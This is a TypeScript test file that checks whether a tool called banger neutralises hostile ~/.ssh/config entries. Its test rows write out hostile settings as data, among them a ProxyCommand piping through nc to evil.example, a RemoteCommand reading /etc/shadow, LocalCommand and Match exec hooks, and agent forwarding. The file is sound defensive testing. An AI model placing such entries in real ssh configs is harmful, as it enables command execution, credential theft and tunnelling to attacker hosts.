// Hostile ~/.ssh/config content against every ssh argv banger builds (daemon side and CLI
// side) and against banger's own Host *.vm block: `ssh -G` shows what would really apply.
import assert from "node:assert/strict";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { bangerSshConfig, withBlock } from "../../src/guest/ssh-config.js";
import { effectiveSsh, sshBuilders } from "../helpers/ssh-effective.js";
import { hostileDaemon, runTable, type HostileDaemon, type HostileRow } from "./harness.js";

let dir: string;
let daemon: HostileDaemon;
before(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), "banger-hostile-ssh-"));
  daemon = await hostileDaemon({ SSH_AUTH_SOCK: path.join(dir, "agent.sock"), SSH_AGENT_PID: "1" });
});
after(async () => {
  await daemon?.close();
  await fs.rm(dir, { recursive: true, force: true });
});

/** A config body (placed under `Host *` unless it starts its own block) and what must hold. */
interface Hostile {
  config: string;
  /** Effective option → the only acceptable values ([] = must be absent). */
  want: Record<string, string[]>;
  /** Builders for which the check does not apply (documented limitation). */
  skip?: RegExp;
}

const rows: Array<HostileRow<Hostile>> = [
  {
    name: "ForwardAgent yes",
    input: { config: "ForwardAgent yes", want: { forwardagent: ["no"] } },
    expect: null,
  },
  {
    name: "ForwardAgent to a socket",
    // OpenSSH keeps the config's path after a command-line "no" and `ssh -G` prints it, but
    // forwarding follows the yes/no flag, which stays off: only the daemon side is checkable here.
    input: {
      config: "ForwardAgent /tmp/agent.sock",
      want: { forwardagent: ["no"] },
      skip: /^cli|banger's block/,
    },
    expect: null,
  },
  {
    name: "ForwardX11 yes",
    input: { config: "ForwardX11 yes", want: { forwardx11: ["no"] } },
    expect: null,
  },
  {
    name: "ForwardX11Trusted yes",
    input: { config: "ForwardX11Trusted yes", want: { forwardx11trusted: ["no"] } },
    expect: null,
  },
  {
    name: "LocalCommand with PermitLocalCommand",
    input: {
      config: "PermitLocalCommand yes\n  LocalCommand touch /tmp/banger-hostile-localcommand",
      want: { permitlocalcommand: ["no"], localcommand: [] },
    },
    expect: null,
  },
  {
    name: "ControlMaster/ControlPath/ControlPersist",
    input: {
      config: "ControlMaster auto\n  ControlPath /tmp/cm-%r@%h:%p\n  ControlPersist 1h",
      want: { controlmaster: ["false"], controlpath: [], controlpersist: ["no"] },
    },
    expect: null,
  },
  {
    name: "ControlMaster yes alone",
    input: { config: "ControlMaster yes", want: { controlmaster: ["false"] } },
    expect: null,
  },
  {
    name: "ProxyCommand",
    input: { config: "ProxyCommand nc evil.example 22", want: { proxycommand: [] } },
    expect: null,
  },
  {
    name: "ProxyJump",
    input: { config: "ProxyJump jump.example", want: { proxyjump: [], proxycommand: [] } },
    expect: null,
  },
  {
    name: "RemoteForward",
    input: { config: "RemoteForward 9999 127.0.0.1:22", want: { remoteforward: [] } },
    expect: null,
  },
  {
    name: "LocalForward",
    input: { config: "LocalForward 8080 127.0.0.1:80", want: { localforward: [] } },
    expect: null,
  },
  {
    name: "DynamicForward",
    input: { config: "DynamicForward 1080", want: { dynamicforward: [] } },
    expect: null,
  },
  {
    name: "Tunnel",
    input: { config: "Tunnel ethernet\n  TunnelDevice 0:0", want: { tunnel: ["false"] } },
    expect: null,
  },
  {
    name: "GSSAPIDelegateCredentials",
    input: {
      config: "GSSAPIAuthentication yes\n  GSSAPIDelegateCredentials yes",
      want: { gssapidelegatecredentials: ["no"] },
    },
    expect: null,
  },
  {
    name: "IdentityAgent",
    input: { config: "IdentityAgent /tmp/agent.sock", want: { identityagent: ["none"] } },
    expect: null,
  },
  {
    name: "RemoteCommand",
    input: { config: "RemoteCommand cat /etc/shadow", want: { remotecommand: [] } },
    expect: null,
  },
  {
    name: "KnownHostsCommand",
    input: { config: "KnownHostsCommand /bin/echo %H", want: { knownhostscommand: [] } },
    expect: null,
  },
  {
    name: "StrictHostKeyChecking no",
    input: {
      config: "StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null",
      want: {
        stricthostkeychecking: ["accept-new"],
        userknownhostsfile: ["/nonexistent/banger/known_hosts"],
      },
    },
    expect: null,
  },
  {
    name: "UpdateHostKeys",
    input: { config: "UpdateHostKeys yes", want: { updatehostkeys: ["false"] } },
    expect: null,
  },
  {
    name: "SetEnv of a secret",
    input: { config: "SetEnv SECRET=hunter2", want: { setenv: ["BANGER=1"] } },
    expect: null,
  },
  {
    name: "Include of another file",
    input: { config: "Include __DIR__/included", want: { forwardagent: ["no"], controlpath: [] } },
    expect: null,
  },
  {
    name: "Match exec",
    input: {
      config: "Match exec true\n  ForwardAgent yes\n  PermitLocalCommand yes\n  LocalCommand id",
      want: { forwardagent: ["no"], permitlocalcommand: ["no"], localcommand: [] },
    },
    expect: null,
  },
  {
    name: "Match host 127.0.0.1 (the user-mode address)",
    input: {
      config: "Match host 127.0.0.1\n  ForwardAgent yes\n  ForwardX11 yes",
      want: { forwardagent: ["no"], forwardx11: ["no"] },
    },
    expect: null,
  },
  {
    name: "Host *.vm of the user's own, after banger's",
    input: {
      config: "Host *.vm\n  ForwardAgent yes\n  ControlMaster auto\n  ControlPath /tmp/x",
      want: { forwardagent: ["no"], controlmaster: ["false"], controlpath: [] },
    },
    expect: null,
  },
];

async function check(input: Hostile): Promise<void> {
  const body = input.config.replaceAll("__DIR__", dir);
  const text = /^(Host|Match)\b/.test(body) ? `${body}\n` : `Host *\n  ${body}\n`;
  const user = path.join(dir, "config");
  await fs.writeFile(user, text);
  // Banger's block as `banger ssh-config` installs it: an Include at the top of ~/.ssh/config.
  const bangerFile = path.join(dir, "banger.conf");
  await fs.writeFile(
    bangerFile,
    bangerSshConfig({ bangerBin: "/b/banger", identityFile: "/s/id", knownHostsFile: "/s/kh" }),
  );
  const withBanger = path.join(dir, "config-with-banger");
  await fs.writeFile(withBanger, withBlock(text, bangerFile));
  const cases: Array<[string, string[], string]> = [
    ...Object.entries(sshBuilders).map(([n, b]): [string, string[], string] => [n, b(), user]),
    ["ssh box.vm (banger's block)", ["box.vm"], withBanger],
  ];
  for (const [name, args, file] of cases) {
    if (input.skip?.test(name)) continue;
    const eff = await effectiveSsh(args, file);
    for (const [key, values] of Object.entries(input.want)) {
      // banger's block pins its own key and known_hosts, and has its ProxyCommand.
      if (name.includes("banger's block") && /userknownhostsfile|proxycommand|setenv/.test(key))
        continue;
      if (
        name.includes("banger's block") &&
        /remotecommand|knownhostscommand|updatehostkeys|tunnel|gssapi/.test(key)
      )
        continue;
      assert.deepEqual(eff.get(key) ?? [], values, `${name}: ${key}`);
    }
  }
}

test("hostile ~/.ssh/config rows: nothing dangerous is in effect for banger's ssh", async () => {
  await fs.writeFile(
    path.join(dir, "included"),
    `Host *\n  ForwardAgent yes\n  ControlPath ${dir}/cm-%C\n`,
  );
  await runTable(rows, check, { daemon, roots: [daemon.home.home] });
  await assert.rejects(fs.access("/tmp/banger-hostile-localcommand"), "LocalCommand never ran");
});

test("bangerd started from a shell with an agent holds no SSH_AUTH_SOCK", async () => {
  const environ = await fs.readFile(`/proc/${daemon.pid}/environ`, "utf8");
  const keys = environ.split("\0").map((kv) => kv.split("=")[0]);
  assert.ok(!keys.includes("SSH_AUTH_SOCK"), "SSH_AUTH_SOCK");
  assert.ok(!keys.includes("SSH_AGENT_PID"), "SSH_AGENT_PID");
});
